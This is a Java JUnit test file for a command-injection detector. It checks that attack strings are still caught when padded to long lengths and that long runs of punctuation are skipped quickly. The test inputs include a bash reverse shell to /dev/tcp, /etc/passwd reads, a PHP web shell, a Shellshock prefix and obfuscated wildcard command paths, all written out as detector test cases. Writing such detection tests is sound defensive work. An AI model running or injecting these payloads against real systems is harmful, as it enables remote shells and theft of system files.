package dev.lambdaguard.input.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The character-set gate of long values: an attack is still caught in a long value, whether it needs a word (whose
 * letters the value then has) or only punctuation; a long run of punctuation is left at once.
 */
class CmdiLettersTest {

  private final CmdiDetector detector = new CmdiDetector();

  /** Padding without letters, long enough that the gate is asked. */
  private static final String PADDING = " ".repeat(300);

  @ParameterizedTest
  @ValueSource(strings = {
    "() { :;};", "() {", ";/???/????", "|/???/?? /???/????", "' /*/??", ";$'\\143\\141\\164' /???/??????",
    "<?= $_[0] ?>", "<?=`$_`?>", "{${@$_}}", "${@_(1)}", "{${_(1)}}", "{$_G[0]}"
  })
  void anAttackWithoutLettersIsCaughtInALongValue(String attack) {
    Detection shortOne = detector.detect(Normalized.of(attack));
    assertNotNull(shortOne, () -> "not detected: " + attack);
    Detection longOne = detector.detect(Normalized.of(attack + PADDING));
    assertNotNull(longOne, () -> "not detected when long: " + attack);
    assertEquals(shortOne.ruleId(), longOne.ruleId());
    assertTrue(CmdiLetters.mayMatch(Normalized.of(attack)));
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "; id", "x|w'h'o'a'm'i", "a;/usr/bin/xyz", "x;c\\at /etc/passwd", "bash -i >& /dev/tcp/1.2.3.4/4 0>&1",
    ";cat${IFS}/etc/passwd", "<?php system($_GET['c']); ?>", "<!--#exec cmd=\"ls\"-->", "{cat,/etc/passwd}",
    "__import__('os')", "x;phpinfo();", "CMD=$'id';$CMD", "x & DIR C:\\", "a%0AID.EXE"
  })
  void anAttackWithAWordIsCaughtInALongValue(String attack) {
    Detection shortOne = detector.detect(Normalized.of(attack));
    Detection longOne = detector.detect(Normalized.of(attack + PADDING));
    assertEquals(shortOne == null ? null : shortOne.ruleId(), longOne == null ? null : longOne.ruleId(), attack);
    assertTrue(CmdiLetters.mayMatch(Normalized.of(attack)), attack);
  }

  @ParameterizedTest
  @ValueSource(strings = {"${", "&#", "/*", "((", "'\"", "<a b=", "$(", "; ", "|&;`", "{$", "<?=", "() "})
  void aLongRunOfPunctuationIsLeftAtOnce(String unit) {
    assertFalse(CmdiLetters.mayMatch(Normalized.of(unit.repeat(200))), unit);
  }
}
